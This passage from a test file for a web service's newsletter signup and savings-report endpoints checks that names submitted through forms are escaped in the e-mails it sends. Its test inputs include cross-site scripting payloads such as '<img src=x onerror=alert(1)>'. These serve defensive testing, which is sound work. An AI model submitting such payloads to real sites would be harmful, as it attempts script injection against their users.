        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        payload: formEncode([
          ['mauticform[first_name]', '<img src=x onerror=alert(1)>'],
          ['mauticform[email]', 'Hostile.Name@Example.co.uk'],
        ]),
      });
      expect(res.statusCode).toBe(201);
      const row = await app.db
        .selectFrom('newsletter_signups')
        .selectAll()
        .where('email', '=', 'hostile.name@example.co.uk')
        .executeTakeFirstOrThrow();
      expect(row.first_name).toBe('<img src=x onerror=alert(1)>');
    });

    it('a savings report (with a human check solved for real): the name escaped in both e-mails', async () => {
      const challenge = (await app.inject({ method: 'GET', url: '/api/captcha/challenge' })).json() as Challenge;
      const solution = await solveChallenge({ challenge, deriveKey });
      const captcha = Buffer.from(
        JSON.stringify({ challenge: { parameters: challenge.parameters, signature: challenge.signature }, solution }),
      ).toString('base64');
      const contactDetails = { ...CONTACT, firstName: '"><img src=x onerror=alert(1)>', lastName: 'مرحبا' };
      const res = await app.inject({ method: 'POST', url: '/api/report', payload: { answers: leaseAnswers(), contactDetails, captcha } });
      expect(res.statusCode).toBe(201);
      const { reference } = res.json() as { reference: string };
      const mails = await mailsFor(reference);
      expect(mails).toHaveLength(2);
      for (const mail of mails) {
        expect(mail.html).not.toMatch(INJECTED_MARKUP);
        expect(mail.html).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
        expectNoInjectedHeader(mail.headers);
      }
    }, 30_000);
  });
});
